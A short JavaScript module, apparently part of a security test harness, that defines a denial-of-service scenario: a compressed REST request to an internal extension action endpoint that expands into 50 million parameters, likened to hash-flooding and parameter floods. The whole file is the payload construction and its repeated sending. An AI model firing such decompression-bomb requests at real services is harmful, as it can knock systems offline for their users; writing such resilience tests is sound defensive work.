import { bombBytes } from '../harness/bombs.mjs';
import { bombOf, compressedRequest, str, vInt } from '../harness/wire.mjs';

export const attack = {
  what: 'A stranger passes compressed REST requests with 50 million parameters to an extension.',
  like: 'hash-flooding and parameter floods of web frameworks',
  victim: { role: 'extension' },
  prepare: (attacker) => {
    const head = Buffer.concat([Buffer.of(0), vInt(0), str('/hello/x'), str('/hello/x')]);
    const body = bombOf(Buffer.alloc(2), bombBytes(attacker), (count) => Buffer.concat([head, vInt(count)]));
    return compressedRequest('internal:extensions/restexecuteonextensiontaction', body);
  },
  run: (attacker, bomb) => attacker.askAgain(2, bomb),
};
